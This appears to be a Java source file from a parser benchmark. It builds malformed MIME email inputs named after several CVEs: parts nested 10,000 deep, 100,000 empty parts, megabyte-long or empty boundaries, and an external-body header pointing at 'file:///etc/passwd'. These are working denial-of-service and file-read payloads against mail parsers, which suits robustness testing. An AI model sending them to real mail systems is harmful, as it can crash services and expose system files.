package io.glassline.bench.attacks;

import static io.glassline.bench.attacks.MailAttack.HEAD;
import static io.glassline.bench.attacks.MailAttack.WORDS;
import static io.glassline.bench.attacks.MailAttack.body;
import static io.glassline.bench.attacks.MailAttack.parts;

import java.util.List;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/// Parts in parts, parts without number, and the lines between them.
///
/// CVE-2020-12100, CVE-2024-23185, CPython 75630, Email-MIME 66, mailsplit 4 and their like.
final class MailNestingAttacks {

    private static final String MIXED = "Content-Type: multipart/mixed; boundary=b";
    private static final String TEXT = "Content-Type: text/plain\r\n\r\n" + WORDS + "\r\n";

    static final List<MailAttack> ALL = List.of(
            new MailAttack(
                    "parts in parts, 10,000 deep",
                    10_000,
                    n -> HEAD
                            + each(
                                    n,
                                    i -> "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n".formatted(i, i))
                            + TEXT
                            + each(n, i -> "--b%d--\r\n".formatted(n - 1 - i))),
            new MailAttack(
                    "parts in parts with one boundary for all, 10,000 deep",
                    10_000,
                    n -> HEAD + (MIXED + "\r\n\r\n--b\r\n").repeat(n) + TEXT),
            new MailAttack(
                    "choices in choices, two branches each, 1,000 deep",
                    1_000,
                    n -> HEAD
                            + each(
                                    n,
                                    i -> ("Content-Type: multipart/alternative; boundary=b%d\r\n\r\n--b%d\r\n"
                                                    + "Content-Type: text/html\r\n\r\n<p>x\r\n--b%d\r\n")
                                            .formatted(i, i, i))
                            + TEXT),
            new MailAttack(
                    "mails in mails, 10,000 deep",
                    10_000,
                    n -> HEAD + "Content-Type: message/rfc822\r\n\r\n".repeat(n) + TEXT),
            new MailAttack(
                    "digests in digests, 10,000 deep",
                    10_000,
                    n -> HEAD
                            + each(
                                    n,
                                    i -> "Content-Type: multipart/digest; boundary=b%d\r\n\r\n--b%d\r\n\r\n"
                                            .formatted(i, i))
                            + TEXT),
            parts("100,000 parts", 100_000, "--b\r\n\r\nx\r\n"::repeat),
            parts("100,000 parts of headers alone", 100_000, "--b\r\nx:y\r\n\r\n"::repeat),
            parts(
                    "20,000 attachments with nothing in them",
                    20_000,
                    "--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=a.pdf\r\n\r\n"
                            ::repeat),
            body("100,000 ends", 100_000, MIXED, n -> "--b\r\n" + TEXT + "--b--\r\n".repeat(n)),
            body("parts that never end", 50_000, MIXED, n -> "--b\r\n" + TEXT + (WORDS + "\r\n").repeat(n)),
            body(
                    "boundaries that begin others",
                    2_000,
                    MIXED,
                    n -> "--b\r\n" + TEXT + each(n, i -> "--" + "b".repeat(i % 1_000 + 2) + "\r\n")),
            body(
                    "boundaries and a line of blanks",
                    10,
                    MIXED,
                    n -> "--b\r\n" + TEXT + ("--b" + " \t".repeat(100_000) + "\r\n").repeat(n)),
            body("an empty boundary", 100_000, "Content-Type: multipart/mixed; boundary=\"\"", "--\r\nx\r\n"::repeat),
            body("no boundary", 100_000, "Content-Type: multipart/mixed", "----\r\n\r\nx\r\n"::repeat),
            body(
                    "a boundary of blanks",
                    100_000,
                    "Content-Type: multipart/mixed; boundary=\"   \"",
                    "--   \r\nx\r\n"::repeat),
            new MailAttack(
                    "a boundary of 1 MB",
                    1_000_000,
                    n -> HEAD + "Content-Type: multipart/mixed; boundary=" + "b".repeat(n) + "\r\n\r\n--"
                            + "b".repeat(n) + "\r\n" + TEXT),
            body(
                    "part of a mail in 30,000 parts",
                    3,
                    "Content-Type: message/partial; id=a; number=1; total=30000",
                    n -> TEXT.repeat(n)),
            body(
                    "a body that is elsewhere",
                    3,
                    "Content-Type: message/external-body; access-type=URL; URL=\"file:///etc/passwd\"",
                    n -> TEXT.repeat(n)));

    private MailNestingAttacks() {}

    static String each(int count, IntFunction<String> one) {
        return IntStream.range(0, count).mapToObj(one).collect(Collectors.joining());
    }
}
